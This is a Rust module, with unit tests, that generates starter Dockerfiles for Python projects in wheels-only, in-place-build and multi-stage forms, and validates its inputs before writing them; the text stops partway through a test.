//! `Dockerfile` output: a file to start from, for the image wheelcheck recommends.
//!
//! Three shapes, after the plan's [`BuildPlan`]:
//! - wheels only: the final image, its runtime packages, `pip install`;
//! - in place: build packages installed, used by `pip install` and removed in one `RUN`, so they
//!   never land in a layer (apk: a `.build-deps` virtual group; apt: `apt-get purge --auto-remove`);
//! - multi-stage: `pip wheel` in a builder stage, then the final stage installs those wheels
//!   through a BuildKit bind mount, so neither build packages nor wheel files reach its layers.
//!
//! Everything that comes from outside is checked before it is written. Package names must match
//! `[a-z0-9][a-z0-9+.-]*` (`:` also allowed for apk, for `so:` names); image references and the
//! requirements path have their own narrow character sets; anything else is left out and named,
//! escaped, in a comment. Comment text is split at line breaks and stripped of control
//! characters, so no input can start an instruction of its own. The output is the same for the
//! same plan: no dates, no versions.

use std::collections::BTreeSet;

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum PackageManager {
    Apt,
    Apk,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DockerPlan {
    /// The final image, e.g. "python:3.12-slim-trixie".
    pub final_image: String,
    /// The final image's package manager.
    pub package_manager: PackageManager,
    /// System packages the installed wheels need at run time (e.g. ["libgomp1"]); may be empty.
    pub runtime_packages: Vec<String>,
    /// None when everything installs from wheels.
    pub build: Option<BuildPlan>,
    /// Path of the requirements file relative to the build context, e.g. "requirements.txt".
    pub requirements: String,
    /// Sdists that will be built, for a comment line (e.g. ["psycopg2 2.9.9"]).
    pub built_from_source: Vec<String>,
    /// One-line reasons to print as comments at the top (the recommendation's "why").
    pub comments: Vec<String>,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum BuildPlan {
    /// Build in the final image: install build packages, pip install, remove them in the same RUN layer.
    InPlace { build_packages: Vec<String> },
    /// Build wheels in a builder stage, install them in the final stage.
    MultiStage {
        builder_image: String,
        builder_package_manager: PackageManager,
        build_packages: Vec<String>,
    },
}

/// Package lists longer than this are written one package per line.
const INLINE_MAX: usize = 3;
const ENV_LINE: &str =
    "ENV PYTHONDONTWRITEBYTECODE=1 PYTHONUNBUFFERED=1 PIP_DISABLE_PIP_VERSION_CHECK=1";
const APT_INSTALL: &str = "apt-get install -y --no-install-recommends";
const APT_CLEAN: &str = "rm -rf /var/lib/apt/lists/*";
const APK_ADD: &str = "apk add --no-cache";
/// Written instead of an image reference that failed the check: Docker rejects it as a
/// reference (repository names must be lowercase) before pulling anything.
const INVALID_IMAGE: &str = "INVALID-IMAGE-REFERENCE";
const DEFAULT_REQUIREMENTS: &str = "requirements.txt";
/// Comment text is cut after this many characters per line (Dockerfile lines are limited to
/// 64 KiB) ...
const COMMENT_MAX_CHARS: usize = 300;
/// ... and wrapped at this width, `# ` included (a longer word keeps its own line).
const COMMENT_WIDTH: usize = 100;
/// Rejected names are shown cut to this many characters.
const SHOWN_MAX_CHARS: usize = 60;

pub fn render(plan: &DockerPlan) -> String {
    let mut warnings = Vec::new();
    let final_image = checked_image(&plan.final_image, "final image", &mut warnings);
    let requirements = checked_requirements(&plan.requirements, &mut warnings);
    let runtime = checked_packages(
        &plan.runtime_packages,
        &plan.package_manager,
        "runtime",
        &mut warnings,
    );
    let build = match &plan.build {
        None => Build::WheelsOnly,
        Some(BuildPlan::InPlace { build_packages }) => {
            let mut packages = checked_packages(
                build_packages,
                &plan.package_manager,
                "build",
                &mut warnings,
            );
            // A package needed at run time too is installed (and kept) with the runtime ones;
            // listed here it would be purged or deleted with the build packages.
            packages.retain(|p| !runtime.contains(p));
            Build::InPlace { packages }
        }
        Some(BuildPlan::MultiStage {
            builder_image,
            builder_package_manager,
            build_packages,
        }) => {
            let image = checked_image(builder_image, "builder image", &mut warnings);
            let packages = checked_packages(
                build_packages,
                builder_package_manager,
                "build",
                &mut warnings,
            );
            stage_mismatch_warnings(
                &image,
                builder_package_manager,
                &final_image,
                &plan.package_manager,
                &mut warnings,
            );
            Build::MultiStage {
                image,
                package_manager: builder_package_manager.clone(),
                packages,
            }
        }
    };

    let mut out = Out::default();
    if matches!(build, Build::MultiStage { .. }) {
        // Must be the very first line; `RUN --mount` needs a BuildKit Dockerfile frontend.
        out.line("# syntax=docker/dockerfile:1");
    }
    // Not a parser directive (no `key=value`): after this line, no comment below can be read as
    // one (`# escape=...` and the like), whatever its text.
    out.comment(&format!(
        "Generated by wheelcheck for {final_image}. A starting point: review it before use."
    ));
    for comment in &plan.comments {
        out.comment(comment);
    }
    if !plan.built_from_source.is_empty() {
        out.line("#");
        out.comment("Built from source (no wheel for this image):");
        for sdist in &plan.built_from_source {
            out.comment(&format!("  {sdist}"));
        }
    }
    if !warnings.is_empty() {
        out.line("#");
        for warning in &warnings {
            out.comment(&format!("WARNING: {warning}"));
        }
    }
    out.line("#");
    for line in approach(&build, &plan.package_manager) {
        out.comment(line);
    }
    out.blank();

    if let Build::MultiStage {
        image,
        package_manager,
        packages,
    } = &build
    {
        builder_stage(&mut out, image, package_manager, packages, &requirements);
        out.blank();
    }

    out.line(&format!("FROM {final_image}"));
    out.line(ENV_LINE);
    out.line("WORKDIR /app");
    out.blank();

    if !runtime.is_empty() {
        match (&build, &plan.package_manager) {
            (Build::InPlace { .. }, PackageManager::Apt) => {
                out.comment(
                    "Runtime libraries first, in their own RUN. Installed by name they are marked \
                     manually installed, so the build step's `apt-get purge --auto-remove` cannot \
                     take them (no `apt-mark manual` needed).",
                );
            }
            (Build::InPlace { .. }, PackageManager::Apk) => {
                out.comment(
                    "Runtime libraries first, in their own RUN: they join the world set, so \
                     `apk del .build-deps` leaves them.",
                );
            }
            (Build::MultiStage { .. }, _) => {
                out.comment(
                    "Runtime libraries the wheels load; build packages stay in the builder stage.",
                );
            }
            (Build::WheelsOnly, _) => out.comment("System libraries the wheels load at run time."),
        }
        out.run(&install_lines(&plan.package_manager, &runtime));
        out.blank();
    }

    out.comment(
        "Dependencies before the code: this layer is rebuilt only when the requirements change.",
    );
    out.comment("(If the requirements file pulls in others with -r or -c, COPY those here too.)");
    out.line(&copy_requirements(&requirements));
    let pip_install = format!("pip install --no-cache-dir -r {requirements}");
    match &build {
        Build::WheelsOnly => out.line(&format!("RUN {pip_install}")),
        Build::InPlace { packages } if packages.is_empty() => {
            out.line(&format!("RUN {pip_install}"));
        }
        Build::InPlace { packages } => {
            let remover = match plan.package_manager {
                PackageManager::Apt => "the purge",
                PackageManager::Apk => "`apk del`",
            };
            out.comment(&format!(
                "A library the extensions built here link to must be a runtime package (above), or \
                 {remover} removes it with the build packages."
            ));
            out.run(&in_place_lines(
                &plan.package_manager,
                packages,
                &pip_install,
            ));
        }
        Build::MultiStage { .. } => {
            out.comment(
                "If the requirements use --hash or direct references (git+https://, local paths), \
                 install /wheels/*.whl instead of -r: locally built wheels match no sdist hash, and \
                 pip would fetch the references again.",
            );
            out.run(&[
                "RUN --mount=type=bind,from=builder,source=/wheels,target=/wheels".to_string(),
                format!(
                    "    pip install --no-cache-dir --no-index --find-links=/wheels -r {requirements}"
                ),
            ]);
        }
    }
    out.blank();

    out.comment(
        "The application. A .dockerignore (.git, .venv, __pycache__, ...) keeps the rest out.",
    );
    out.line("COPY . .");
    out.line("# CMD [\"python\", \"-m\", \"your_app\"]");
    out.0
}

/// The plan after every name in it was checked.
enum Build {
    WheelsOnly,
    InPlace {
        packages: Vec<String>,
    },
    MultiStage {
        image: String,
        package_manager: PackageManager,
        packages: Vec<String>,
    },
}

/// Comment lines saying how this file installs the requirements, and why that way.
fn approach(build: &Build, package_manager: &PackageManager) -> &'static [&'static str] {
    match (build, package_manager) {
        (Build::WheelsOnly, _) => {
            &["Every requirement installs from a wheel here: no compiler or build packages needed."]
        }
        (Build::InPlace { packages }, _) if packages.is_empty() => &[
            "The sdists are built in place; they need no system build packages beyond the image's.",
        ],
        (Build::InPlace { .. }, PackageManager::Apk) => &[
            "Built in place: the build packages are added as a virtual group (.build-deps), used \
             by pip and deleted in the same RUN, so they never land in a layer.",
        ],
        (Build::InPlace { .. }, PackageManager::Apt) => &[
            "Built in place: the build packages are installed, used by pip and purged in the same \
             RUN, so they never land in a layer.",
        ],
        (Build::MultiStage { .. }, _) => &[
            "Multi-stage: the \"builder\" stage has the build packages and turns every requirement \
             into a wheel (pip wheel).",
            "The final stage installs those wheels through a BuildKit bind mount (RUN \
             --mount=type=bind,from=builder), so neither the build packages nor the wheel files \
             end up in any of its layers.",
            "(COPY --from=builder /wheels followed by rm -rf /wheels would still keep the wheels in \
             the COPY layer.)",
        ],
    }
}

fn builder_stage(
    out: &mut Out,
    image: &str,
    package_manager: &PackageManager,
    packages: &[String],
    requirements: &str,
) {
    out.line(&format!("FROM {image} AS builder"));
    out.line("ENV PIP_DISABLE_PIP_VERSION_CHECK=1");
    out.line("WORKDIR /build");
    if packages.is_empty() {
        out.comment("No build packages to add: the builder image has what the builds need.");
    } else {
        out.run(&install_lines(package_manager, packages));
    }
    out.line(&copy_requirements(requirements));
    out.line(&format!(
        "RUN pip wheel --no-cache-dir --wheel-dir /wheels -r {requirements}"
    ));
}

/// `COPY` of just the requirements file, to the same relative path under the work directory.
fn copy_requirements(requirements: &str) -> String {
    match requirements.rsplit_once('/') {
        Some((dir, _)) => format!("COPY {requirements} {dir}/"),
        None => format!("COPY {requirements} ."),
    }
}

/// The lines of one `RUN` that installs packages and leaves no package cache behind.
fn install_lines(package_manager: &PackageManager, packages: &[String]) -> Vec<String> {
    let mut lines = Vec::new();
    match package_manager {
        PackageManager::Apt => {
            command(&mut lines, "apt-get update", &[]);
            command(&mut lines, APT_INSTALL, packages);
            command(&mut lines, APT_CLEAN, &[]);
        }
        PackageManager::Apk => command(&mut lines, APK_ADD, packages),
    }
    lines
}

/// One `RUN`: build packages in, `pip install`, build packages out.
fn in_place_lines(
    package_manager: &PackageManager,
    packages: &[String],
    pip_install: &str,
) -> Vec<String> {
    let mut lines = Vec::new();
    match package_manager {
        PackageManager::Apt => {
            command(&mut lines, "apt-get update", &[]);
            command(&mut lines, APT_INSTALL, packages);
            command(&mut lines, pip_install, &[]);
            command(&mut lines, "apt-get purge -y --auto-remove", packages);
            command(&mut lines, APT_CLEAN, &[]);
        }
        PackageManager::Apk => {
            command(
                &mut lines,
                &format!("{APK_ADD} --virtual .build-deps"),
                packages,
            );
            command(&mut lines, pip_install, &[]);
            command(&mut lines, "apk del --no-network .build-deps", &[]);
        }
    }
    lines
}

/// Appends one shell command to a `RUN`'s lines: the first starts the `RUN`, later ones are
/// chained with `&&`. Arguments follow on the same line when there are a few, else one per line.
fn command(lines: &mut Vec<String>, head: &str, args: &[String]) {
    let prefix = if lines.is_empty() { "RUN " } else { "    && " };
    if args.len() <= INLINE_MAX {
        let mut line = format!("{prefix}{head}");
        for arg in args {
            line.push(' ');
            line.push_str(arg);
        }
        lines.push(line);
    } else {
        lines.push(format!("{prefix}{head}"));
        lines.extend(args.iter().map(|arg| format!("        {arg}")));
    }
}

#[derive(Default)]
struct Out(String);

impl Out {
    fn line(&mut self, line: &str) {
        self.0.push_str(line);
        self.0.push('\n');
    }

    fn blank(&mut self) {
        self.0.push('\n');
    }

    fn comment(&mut self, text: &str) {
        for line in comment_lines(text) {
            self.line(&line);
        }
    }

    /// One instruction over several lines, joined with `\` continuations.
    fn run(&mut self, lines: &[String]) {
        self.line(&lines.join(" \\\n"));
    }
}

/// `text` as comment lines: one or more per line of the text, wrapped at [`COMMENT_WIDTH`],
/// with control and bidirectional-override characters replaced and overlong text cut.
fn comment_lines(text: &str) -> Vec<String> {
    let is_break = |c: char| {
        matches!(
            c,
            '\n' | '\r' | '\u{0b}' | '\u{0c}' | '\u{85}' | '\u{2028}' | '\u{2029}'
        )
    };
    let mut lines = Vec::new();
    for piece in text.split(is_break) {
        let mut clean = String::new();
        for (i, c) in piece.chars().enumerate() {
            if i == COMMENT_MAX_CHARS {
                clean.push('…');
                break;
            }
            clean.push(match c {
                '\t' => ' ',
                c if c.is_control() => '\u{fffd}',
                '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' => '\u{fffd}',
                c => c,
            });
        }
        let body = clean.trim_start();
        // Leading spaces (list items) indent every line of the piece.
        let start = format!("# {}", &clean[..clean.len() - body.len()]);
        let mut line = start.clone();
        for word in body.split_whitespace() {
            let width = line.chars().count();
            if width > start.len() && width + 1 + word.chars().count() > COMMENT_WIDTH {
                lines.push(std::mem::replace(&mut line, start.clone()));
            }
            if line.len() > start.len() {
                line.push(' ');
            }
            line.push_str(word);
        }
        if line.len() > start.len() {
            lines.push(line);
        }
    }
    if lines.is_empty() {
        lines.push("#".to_string());
    }
    lines
}

/// A rejected value as it is shown in a comment: quoted, escaped, cut.
fn shown(value: &str) -> String {
    let mut cut: String = value.chars().take(SHOWN_MAX_CHARS).collect();
    if cut.len() < value.len() {
        cut.push('…');
    }
    format!("{cut:?}")
}

/// Sorted, deduplicated valid package names; each invalid one is left out with a warning.
fn checked_packages(
    names: &[String],
    package_manager: &PackageManager,
    list: &str,
    warnings: &mut Vec<String>,
) -> Vec<String> {
    let mut valid = BTreeSet::new();
    for name in names {
        let trimmed = name.trim();
        if is_package_name(trimmed, package_manager) {
            valid.insert(trimmed.to_string());
        } else {
            let allowed = match package_manager {
                PackageManager::Apt => "a-z 0-9 + . -",
                PackageManager::Apk => "a-z 0-9 + . - :",
            };
            warnings.push(format!(
                "left out the {list} package name {}: names may only use {allowed}, and start \
                 with a letter or digit.",
                shown(name)
            ));
        }
    }
    valid.into_iter().collect()
}

/// `[a-z0-9][a-z0-9+.-]*`, and `:` too for apk (`so:libgomp.so.1`). The first character may
/// not be `-`, so a name can never be read as an option (`-o...` for apt-get).
fn is_package_name(name: &str, package_manager: &PackageManager) -> bool {
    let mut chars = name.chars();
    let Some(first) = chars.next() else {
        return false;
    };
    (first.is_ascii_lowercase() || first.is_ascii_digit())
        && chars.all(|c| {
            c.is_ascii_lowercase()
                || c.is_ascii_digit()
                || matches!(c, '+' | '.' | '-')
                || (c == ':' && *package_manager == PackageManager::Apk)
        })
}

/// The image reference if it only uses the characters of one (`[A-Za-z0-9._:/@-]`, no leading
/// punctuation), else [`INVALID_IMAGE`]; warns about an invalid, untagged or `latest` reference.
fn checked_image(image: &str, what: &str, warnings: &mut Vec<String>) -> String {
    let valid = image.len() <= 255
        && image.starts_with(|c: char| c.is_ascii_alphanumeric())
        && image
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | ':' | '/' | '@'));
    if !valid {
        warnings.push(format!(
            "the {what} {} is not a valid image reference; replace {INVALID_IMAGE} below.",
            shown(image)
        ));
        return INVALID_IMAGE.to_string();
    }
    let (name, digest) = match image.split_once('@') {
        Some((name, digest)) => (name, Some(digest)),
        None => (image, None),
    };
    let last = name.rsplit('/').next().unwrap_or(name);
    match last.split_once(':').map(|(_, tag)| tag) {
        Some("latest") if digest.is_none() => warnings.push(format!(
            "the {what} {image} uses the `latest` tag, which moves; pin a version tag (e.g. \
             python:3.12-slim-trixie)."
        )),
        None if digest.is_none() => warnings.push(format!(
            "the {what} {image} has no tag, so Docker takes `latest`, which moves; pin a version \
             tag (e.g. python:3.12-slim-trixie)."
        )),
        _ => {}
    }
    image.to_string()
}

/// The requirements path as given (without a leading `./`) if it is a plain relative path of
/// `[A-Za-z0-9._+-]` components; else `requirements.txt`, with a warning.
fn checked_requirements(path: &str, warnings: &mut Vec<String>) -> String {
    let mut trimmed = path;
    while let Some(rest) = trimmed.strip_prefix("./") {
        trimmed = rest;
    }
    let valid = !trimmed.is_empty()
        && trimmed.split('/').all(|part| {
            !part.is_empty()
                && part != "."
                && part != ".."
                && !part.starts_with('-')
                && part
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '+' | '-'))
        });
    if valid {
        trimmed.to_string()
    } else {
        warnings.push(format!(
            "the requirements path {} cannot be written safely here (a relative path of letters, \
             digits and . _ + - is needed); {DEFAULT_REQUIREMENTS} is used instead.",
            shown(path)
        ));
        DEFAULT_REQUIREMENTS.to_string()
    }
}

/// Warnings for a builder stage whose wheels may not run in the final image: another C library,
/// another Python, another OS release.
fn stage_mismatch_warnings(
    builder: &str,
    builder_package_manager: &PackageManager,
    final_image: &str,
    final_package_manager: &PackageManager,
    warnings: &mut Vec<String>,
) {
    if builder_package_manager != final_package_manager {
        let libc = |pm: &PackageManager| match pm {
            PackageManager::Apt => "glibc",
            PackageManager::Apk => "musl",
        };
        warnings.push(format!(
            "the builder ({builder}, {}) and the final image ({final_image}, {}) use different C \
             libraries: wheels built against one do not run on the other. Build in an image of \
             the final image's family.",
            libc(builder_package_manager),
            libc(final_package_manager),
        ));
        return;
    }
    let (builder_info, final_info) = (python_image(builder), python_image(final_image));
    if let (Some((b, _)), Some((f, _))) = (&builder_info, &final_info)
        && b != f
    {
        warnings.push(format!(
            "the builder has Python {b} and the final image Python {f}: wheels built for one do \
             not install on the other. Use the same Python version."
        ));
    }
    if let (Some((_, Some(b))), Some((_, Some(f)))) = (&builder_info, &final_info)
        && b != f
    {
        warnings.push(format!(
            "the builder is based on {b} and the final image on {f}: extensions built there may \
             need newer system libraries (glibc, ...) than the final image has. Use the same \
             release."
        ));
    }
}

/// For an official `python` image: its Python `major.minor`, and the OS release named in the
/// tag (`bookworm`, `trixie`, `alpine3.24`, ...) when there is one.
fn python_image(image: &str) -> Option<(String, Option<String>)> {
    let (repository, tag) = image.split('@').next()?.rsplit_once(':')?;
    if repository != "python" && !repository.ends_with("/python") {
        return None;
    }
    let mut parts = tag.split('-');
    let version = parts.next()?;
    let mut numbers = version.split('.');
    let (major, minor) = (numbers.next()?, numbers.next()?);
    if major.is_empty()
        || minor.is_empty()
        || !major
            .chars()
            .chain(minor.chars())
            .all(|c| c.is_ascii_digit())
    {
        return None;
    }
    let os = parts
        .find(|part| {
            part.starts_with("alpine") || matches!(*part, "bullseye" | "bookworm" | "trixie")
        })
        .map(str::to_string);
    Some((format!("{major}.{minor}"), os))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn strings(items: &[&str]) -> Vec<String> {
        items.iter().map(|s| s.to_string()).collect()
    }

    fn plan(final_image: &str, package_manager: PackageManager) -> DockerPlan {
        DockerPlan {
            final_image: final_image.to_string(),
            package_manager,
            runtime_packages: Vec::new(),
            build: None,
            requirements: "requirements.txt".to_string(),
            built_from_source: Vec::new(),
            comments: strings(&["All 12 packages install from wheels on python:3.12-slim-trixie."]),
        }
    }

    fn tests_plan() -> DockerPlan {
        slim()
    }

    fn slim() -> DockerPlan {
        plan("python:3.12-slim-trixie", PackageManager::Apt)
    }

    fn alpine() -> DockerPlan {
        plan("python:3.12-alpine3.24", PackageManager::Apk)
    }

    fn multi_stage(builder: &str, pm: PackageManager, build: &[&str]) -> BuildPlan {
        BuildPlan::MultiStage {
            builder_image: builder.to_string(),
            builder_package_manager: pm,
            build_packages: strings(build),
        }
    }

    /// The instructions as Docker reads them: comments dropped, `\` continuations joined,
    /// whitespace collapsed.
    fn instructions(dockerfile: &str) -> Vec<String> {
        let mut result = Vec::new();
        let mut current = String::new();
        for line in dockerfile.lines() {
            let trimmed = line.trim_start();
            if trimmed.starts_with('#') || (current.is_empty() && trimmed.is_empty()) {
                continue;
            }
            let (text, continued) = match trimmed.strip_suffix('\\') {
                Some(text) => (text, true),
                None => (trimmed, false),
            };
            current.push(' ');
            current.push_str(text);
            if !continued {
                result.push(current.split_whitespace().collect::<Vec<_>>().join(" "));
                current.clear();
            }
        }
        assert!(current.is_empty(), "unterminated continuation: {current}");
        result
    }

    /// Instructions by stage, each starting with its FROM.
    fn stages(dockerfile: &str) -> Vec<Vec<String>> {
        let mut stages: Vec<Vec<String>> = Vec::new();
        for instruction in instructions(dockerfile) {
            if instruction.starts_with("FROM ") {
                stages.push(Vec::new());
            }
            stages
                .last_mut()
                .expect("an instruction before the first FROM")
                .push(instruction);
        }
        stages
    }

    fn comments(dockerfile: &str) -> Vec<&str> {
        dockerfile
            .lines()
            .filter(|l| l.trim_start().starts_with('#'))
            .collect()
    }

    /// The comments' text as one string, lines joined by spaces (undoes the wrapping).
    fn comment_text(dockerfile: &str) -> String {
        comments(dockerfile)
            .iter()
            .map(|c| c.trim_start_matches('#').trim())
            .collect::<Vec<_>>()
            .join(" ")
    }

    fn position(instructions: &[String], wanted: &str) -> usize {
        instructions
            .iter()
            .position(|i| i == wanted)
            .unwrap_or_else(|| panic!("no {wanted:?} in {instructions:#?}"))
    }

    fn all_plans() -> Vec<DockerPlan> {
        let mut with_runtime = slim();
        with_runtime.runtime_packages = strings(&["libgomp1"]);
        let mut in_place_apt = slim();
        in_place_apt.build = Some(BuildPlan::InPlace {
            build_packages: strings(&["gcc", "libpq-dev"]),
        });
        let mut in_place_apk = alpine();
        in_place_apk.build = Some(BuildPlan::InPlace {
            build_packages: strings(&["gcc", "musl-dev"]),
        });
        let mut multi = slim();
        multi.build = Some(multi_stage(
            "python:3.12-trixie",
            PackageManager::Apt,
            &["libpq-dev"],
        ));
        vec![
            slim(),
            alpine(),
            with_runtime,
            in_place_apt,
            in_place_apk,
            multi,
        ]
    }

    const ENV: &str =
        "ENV PYTHONDONTWRITEBYTECODE=1 PYTHONUNBUFFERED=1 PIP_DISABLE_PIP_VERSION_CHECK=1";

    #[test]
    fn wheels_only_without_packages_has_no_package_manager_run() {
        let dockerfile = render(&slim());
        assert_eq!(
            instructions(&dockerfile),
            strings(&[
                "FROM python:3.12-slim-trixie",
                ENV,
                "WORKDIR /app",
                "COPY requirements.txt .",
                "RUN pip install --no-cache-dir -r requirements.txt",
                "COPY . .",
            ])
        );
        assert!(!dockerfile.contains("apt-get"), "{dockerfile}");
        let first = dockerfile.lines().next().unwrap();
        assert!(first.starts_with("# Generated by wheelcheck for python:3.12-slim-trixie"));
        assert!(
            !dockerfile.contains("# syntax="),
            "no BuildKit feature is used"
        );
        assert!(
            comments(&dockerfile)
                .contains(&"# All 12 packages install from wheels on python:3.12-slim-trixie.")
        );
        assert_eq!(
            dockerfile.lines().last(),
            Some("# CMD [\"python\", \"-m\", \"your_app\"]")
        );
        assert!(dockerfile.ends_with('\n'));
    }

    #[test]
    fn wheels_only_alpine_without_packages_has_no_apk_run() {
        let dockerfile = render(&alpine());
        assert!(!dockerfile.contains("apk "), "{dockerfile}");
        assert_eq!(instructions(&dockerfile)[0], "FROM python:3.12-alpine3.24");
    }

    #[test]
    fn wheels_with_runtime_packages_apt() {
        let mut plan = slim();
        plan.runtime_packages = strings(&["libstdc++6", "libgomp1", "libgomp1"]);
        let dockerfile = render(&plan);
        let instructions = instructions(&dockerfile);
        let apt = "RUN apt-get update \
                   && apt-get install -y --no-install-recommends libgomp1 libstdc++6 \
                   && rm -rf /var/lib/apt/lists/*";
        assert_eq!(
            instructions
                .iter()
                .filter(|i| i.starts_with("RUN "))
                .count(),
            2
        );
        // System packages before the requirements, which change more often.
        assert!(position(&instructions, apt) < position(&instructions, "COPY requirements.txt ."));
        assert!(
            position(&instructions, "COPY requirements.txt .")
                < position(
                    &instructions,
                    "RUN pip install --no-cache-dir -r requirements.txt"
                )
        );
        assert!(position(&instructions, ENV) < position(&instructions, apt));
        assert!(!dockerfile.contains("purge"));
    }

    #[test]
    fn wheels_with_runtime_packages_apk() {
        let mut plan = alpine();
        plan.runtime_packages = strings(&["so:libz.so.1", "libstdc++", "libgomp"]);
        let instructions = instructions(&render(&plan));
        position(
            &instructions,
            "RUN apk add --no-cache libgomp libstdc++ so:libz.so.1",
        );
        position(
            &instructions,
            "RUN pip install --no-cache-dir -r requirements.txt",
        );
        assert!(!instructions.iter().any(|i| i.contains("--virtual")));
    }

    #[test]
    fn long_package_lists_are_one_per_line_and_short_ones_inline() {
        let mut plan = slim();
        plan.runtime_packages = strings(&["libz1", "liba1", "libc1", "libb1"]);
        let dockerfile = render(&plan);
        let expected = "RUN apt-get update \\\n    \
                        && apt-get install -y --no-install-recommends \\\n        \
                        liba1 \\\n        libb1 \\\n        libc1 \\\n        libz1 \\\n    \
                        && rm -rf /var/lib/apt/lists/*\n";
        assert!(dockerfile.contains(expected), "{dockerfile}");

        plan.runtime_packages = strings(&["libb1", "liba1", "libc1"]);
        let dockerfile = render(&plan);
        assert!(
            dockerfile.contains(
                "    && apt-get install -y --no-install-recommends liba1 libb1 libc1 \\\n"
            ),
            "{dockerfile}"
        );
    }

    #[test]
    fn in_place_apk_uses_one_run_with_a_virtual_group() {
        let mut plan = alpine();
        plan.runtime_packages = strings(&["libpq"]);
        plan.build = Some(BuildPlan::InPlace {
            build_packages: strings(&["postgresql-dev", "musl-dev", "gcc", "libpq"]),
        });
        plan.built_from_source = strings(&["psycopg2 2.9.9"]);
        let dockerfile = render(&plan);
        let instructions = instructions(&dockerfile);
        let build = "RUN apk add --no-cache --virtual .build-deps gcc musl-dev postgresql-dev \
                     && pip install --no-cache-dir -r requirements.txt \
                     && apk del --no-network .build-deps";
        let runtime = "RUN apk add --no-cache libpq";
        assert!(position(&instructions, runtime) < position(&instructions, build));
        assert!(
            position(&instructions, "COPY requirements.txt .") < position(&instructions, build)
        );
        // pip runs only inside the build RUN.
        assert_eq!(
            instructions.iter().filter(|i| i.contains("pip ")).count(),
            1
        );
        assert!(comments(&dockerfile).contains(&"#   psycopg2 2.9.9"));
    }

    #[test]
    fn in_place_apt_purges_build_packages_in_the_same_run_and_keeps_runtime_ones() {
        let mut plan = slim();
        plan.runtime_packages = strings(&["libpq5"]);
        plan.build = Some(BuildPlan::InPlace {
            // libpq5 is needed at run time: it must not be purged with the build packages.
            build_packages: strings(&["libpq-dev", "gcc", "libc6-dev", "libpq5"]),
        });
        let dockerfile = render(&plan);
        let instructions = instructions(&dockerfile);
        let runtime = "RUN apt-get update \
                       && apt-get install -y --no-install-recommends libpq5 \
                       && rm -rf /var/lib/apt/lists/*";
        let build = "RUN apt-get update \
                     && apt-get install -y --no-install-recommends gcc libc6-dev libpq-dev \
                     && pip install --no-cache-dir -r requirements.txt \
                     && apt-get purge -y --auto-remove gcc libc6-dev libpq-dev \
                     && rm -rf /var/lib/apt/lists/*";
        assert!(position(&instructions, runtime) < position(&instructions, build));
        assert!(
            position(&instructions, "COPY requirements.txt .") < position(&instructions, build)
        );
        assert_eq!(
            instructions.iter().filter(|i| i.contains("pip ")).count(),
            1
        );
        let comments = comment_text(&dockerfile);
        assert!(comments.contains("apt-mark manual"), "{comments}");
        assert!(comments.contains("purge --auto-remove"), "{comments}");
    }

    #[test]
    fn multi_stage_debian_to_slim() {
        let mut plan = slim();
        plan.runtime_packages = strings(&["libpq5"]);
        plan.build = Some(multi_stage(
            "python:3.12-trixie",
            PackageManager::Apt,
            &["libpq-dev", "gcc"],
        ));
        plan.built_from_source = strings(&["psycopg2 2.9.9"]);
        let dockerfile = render(&plan);
        let mut lines = dockerfile.lines();
        assert_eq!(lines.next(), Some("# syntax=docker/dockerfile:1"));
        assert!(
            lines
                .next()
                .unwrap()
                .starts_with("# Generated by wheelcheck")
        );
        let stages = stages(&dockerfile);
        assert_eq!(stages.len(), 2);
        assert_eq!(
            stages[0],
            strings(&[
                "FROM python:3.12-trixie AS builder",
                "ENV PIP_DISABLE_PIP_VERSION_CHECK=1",
                "WORKDIR /build",
                "RUN apt-get update \
                 && apt-get install -y --no-install-recommends gcc libpq-dev \
                 && rm -rf /var/lib/apt/lists/*",
                "COPY requirements.txt .",
                "RUN pip wheel --no-cache-dir --wheel-dir /wheels -r requirements.txt",
            ])
        );
        assert_eq!(
            stages[1],
            strings(&[
                "FROM python:3.12-slim-trixie",
                ENV,
                "WORKDIR /app",
                "RUN apt-get update \
                 && apt-get install -y --no-install-recommends libpq5 \
                 && rm -rf /var/lib/apt/lists/*",
                "COPY requirements.txt .",
                "RUN --mount=type=bind,from=builder,source=/wheels,target=/wheels \
                 pip install --no-cache-dir --no-index --find-links=/wheels -r requirements.txt",
                "COPY . .",
            ])
        );
        // The choice of the bind mount over COPY --from is explained in the file.
        let comments = comment_text(&dockerfile);
        assert!(comments.contains("COPY --from=builder"), "{comments}");
        assert!(!comments.contains("WARNING"), "{comments}");
    }

    #[test]
    fn multi_stage_final_stage_has_no_build_tools() {
        let mut plan = slim();
        plan.runtime_packages = strings(&["libgomp1"]);
        let build = ["gcc", "g++", "make", "libopenblas-dev", "pkg-config"];
        plan.build = Some(multi_stage(
            "python:3.12-trixie",
            PackageManager::Apt,
            &build,
        ));
        let stages = stages(&render(&plan));
        let final_stage = stages.last().unwrap().join("\n");
        for package in build {
            assert!(
                !final_stage.split_whitespace().any(|word| word == package),
                "{package} in {final_stage}"
            );
            assert!(stages[0].join("\n").contains(package));
        }
        assert!(!final_stage.contains("COPY --from"));
        assert!(!final_stage.contains("pip wheel"));
    }

    #[test]
    fn multi_stage_without_build_packages_has_no_builder_install() {
        let mut plan = slim();
        plan.build = Some(multi_stage("python:3.12-trixie", PackageManager::Apt, &[]));
        let stages = stages(&render(&plan));
        assert!(!stages[0].iter().any(|i| i.contains("apt-get")));
        assert!(!stages[1].iter().any(|i| i.contains("apt-get")));
    }

    #[test]
    fn multi_stage_alpine_to_alpine() {
        let mut plan = alpine();
        plan.runtime_packages = strings(&["libpq"]);
        plan.build = Some(multi_stage(
            "python:3.12-alpine3.24",
            PackageManager::Apk,
            &["postgresql-dev", "gcc", "musl-dev"],
        ));
        let dockerfile = render(&plan);
        let stages = stages(&dockerfile);
        position(
            &stages[0],
            "RUN apk add --no-cache gcc musl-dev postgresql-dev",
        );
        position(&stages[1], "RUN apk add --no-cache libpq");
        assert!(!dockerfile.contains("--virtual"));
        assert!(!dockerfile.contains("WARNING"));
    }

    #[test]
    fn glibc_builder_with_musl_final_is_rendered_with_a_warning() {
        let mut plan = alpine();
        plan.runtime_packages = strings(&["libgomp"]);
        plan.build = Some(multi_stage(
